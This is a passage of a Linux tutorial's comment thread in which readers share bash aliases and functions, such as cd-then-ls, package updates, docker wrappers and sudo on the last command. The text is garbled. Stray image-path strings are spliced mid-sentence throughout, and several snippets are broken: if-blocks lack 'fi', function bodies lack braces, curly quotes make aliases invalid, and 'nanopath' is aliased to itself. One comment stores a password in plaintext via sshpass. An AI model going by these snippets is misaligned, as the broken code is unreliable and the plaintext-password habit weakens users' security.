    alias rf='source ~/.bashrc'
    # perform 'ls' after 'cd' ifsuccessful.
    cdls() {
      builtin cd "$*"
      if [ "$RESULT" -eq 0 ]; then
    alias cd='cdls'
    # quick cd back option
    alias ..='cd ..'
    # search for a string recursively in any C source files
    alias src-grep='find . -name "*.[ch]" | xargs grep '
    # for easily editting the path variable
    nanopath ()
        declare TFILE=/tmp/path.$LOGNAME.$$;
        echo $PATH | sed 's/^:/.:/;s/:$/:./' | sed 's/::/:.:/g' | tr ':' '12' > $TFILE;
        nano $TFILE;
        PATH=`awk ' { if (NR>1) printf ":"
          printf "%s",$1 }' $TFILE`;
        rm -f $TFILE;
        echo $PATH
    alias nanopath='nanopath'
    • ychaouche Dec 26, 2016 @ 15:00

      Why on earth would you alias nanopath to nanopath ?

  • some guy Aug 15, 2015 @ 15:20

    in my experiance it is esasier to put the scripts you want to use aliases for in your .bash_aliases file. like so

    ~/nano .bash_aliases
    rmls() {
      rm "$*"
      if [ "$RESULT" -eq 0 ]; thenhere is a function. and to make an alias for it is as simple as:

    alias name=’functionName args’

    so for my example function it would be
    alias rm=’rmls’

  • Natalia Oct 30, 2015 @ 15:21

    Great list! There are certainly some I going to use!
    I also have some that maybe are so obvious nobody even finds it worth mentioning…

    But since I'm a lazy beast:alias getupdates='sudo apt-get update && sudo apt-get upgrade'
    alias backupstuff='rsync -avhpr --delete-delay /some/location/foo/bar /media/your/remote/location'
    alias enter_some_user='ssh -p 9999 someuser@'
  • Birch Dec 24, 2015 @ 13:58


  • ipstone Dec 24, 2015 @ 14:52

    quick update bashrc etc:
    alias bashrc="vim ~/.bashrc && source ~/.bashrc"

  • myklmar Dec 25, 2015 @ 15:52

    #To play a random collection of music from your music library.
    #(You need to have VLC installed)
    alias play='nvlc /media/myklmar/MUSIC/mymusic/ -Z'

  • Code4LifeVn Jan 1, 2016 @ 12:11

    Great!…Keep working

  • Joel Hatcher Feb 25, 2016 @ 16:25

    Doing update on Mageia linux

    alias doupdate=”urpmi –auto –auto-update”

  • rain Feb 28, 2016 @ 1:35

    Whats the weather doing?

    alias rain='curl -4 http://wttr.in'
    alias rain='curl -4 http://wttr.in/London'• Cosmin Mar 3, 2016 @ 9:35

    Here is a repository with several useful aliases. You may want to have a look: https://github.com/algotech/dotaliases

  • diyoyo Aug 26, 2016 @ 10:26

    Will the aliases appear using the “top” command?
    How would like to see the alias name rather than the command name of the process. Is that possible?

    •  Vivek Gite Aug 26, 2016 @ 17:57

      Noop. It will show actual command in top or ps output.

  • Sinan Nov 10, 2016 @ 10:48

    One of my favorite: copy something from command line to clipboard:
    alias c='xsel --clipboard'
    Then use like:
    grep John file_for_contacts | c
    now, john’s contact info is copied to the clipboard, etc.

  • lido Dec 16, 2016 @ 20:08alias s=”sshpass -p’mypassword’ ssh”

  • ychaouche Dec 26, 2016 @ 15:42


    Some useful functions too


  • systemBuilder Jan 6, 2017 @ 2:00

    List files in order of ascending size (the second form takes a file-pattern argument):

    function lsdu() { ls -l $* | sort --key=5.1 -n; };
    function lsduf() { ls -l | egrep $* | sort --key=5.1 -n; };

    List the 10 most recently edited/changed files (m = more, a poor-man’s more)

    alias lsm='ls -lt | head -n 10'

    List the tasks using the most CPU time

    alias hogs='ps uxga | sort --key=4.1 -n'

    • systemBuilder Jan 6, 2017 @ 2:42

      Sorry, typos and some new ones

      alias hogs='ps uxga | sort --key=3.1 -n'
      alias sdiff='sdiff -w 240'
      function pyloc() { egrep -v '^[ ]*(#|$dollar)' $* | wc; }; # count lines (python, sh)
      function loc() { egrep -v '^[ ]*(//|/*|*|$dollar)' $* | wc; }; # count lines (c, c++)

  • Geo PC Jan 18, 2017 @ 15:38

    Is there any option to enable confirmation for the rm -rf . We had an alias setup for rm=rm -i so whenever we delete a file it asks for confirmation but when -f flag is supplied it will not asks for confirmation.So can you anyone please help to create function so that it ask confirmation for rm (Or rm -r) command with force flag that is for rm -f and rm -rf commands?

  • Ti81 May 1, 2017 @ 16:57

    I like confirmation aliases. So good to avoid deleting file by accident.

  • Evaristo GZ May 2, 2017 @ 7:40

    To access a servers:
    alias barney='ssh -i ~/.ssh/private.key debian@'

    To replace all “:” of the name of the files in the folder that is running. It serves to synchronize with Dropbox in Windows. Screenshot 2017-01-01 01:02:03 -> Screenshot 2017-01-01 01 02 03:alias renombrar="rename 'y/ :/ /' *"

  • schonny Jun 8, 2017 @ 11:22

    Great list!
    I also have some that maybe are somebody finds interesting

     alias ab='docker run --rm piegsaj/ab'
     alias php='docker run --rm -it -v "$PWD":/opt -w /opt php php'
     alias java='docker run --rm -it -v "$PWD":/opt -w /opt java java'
     alias node='docker run --rm -it -v "$PWD":/opt -w /opt node node'alias ruby='docker run --rm -it -v "$PWD":/opt -w /opt ruby ruby'
     alias python='docker run --rm -it -v "$PWD":/opt -w /opt python python'
     alias htop='docker run --rm -it --pid host tehbilly/htop'
     alias mysql='docker run--rm -it imega/mysql-client mysql'
    • Ridi Nov 3,2020 @ 7:16

      these are awesome and will save my time:
      alias pgsql='docker run --rm-it image/pgsql-client pgsql'

  • Vedanta Sep 7, 2020 @ 18:24

    Nice. This gave some additonal ideas. thank you kind stranger.

  • Jan Oct 27, 2020 @ 12:45

    For repeating the last command but using sudo.
    alias fu= 'sudo $(fc -ln -1)'

  • Zimba Nov 3, 2020 @ 7:14

    Mine is polite version:
    alias please='sudo $(fc -ln -1)'• Annika Feb 26, 2021 @ 10:51

    Potryasayushchiy spisok.

  • Danièle Colbert Mar 10,2021 @ 7:39

    What a good list. I learned a lot from this one.

Leave a Reply

Your emailaddress will not be published.

Use HTML <pre>...</pre> for code samples. Still have questions? Post it on our forum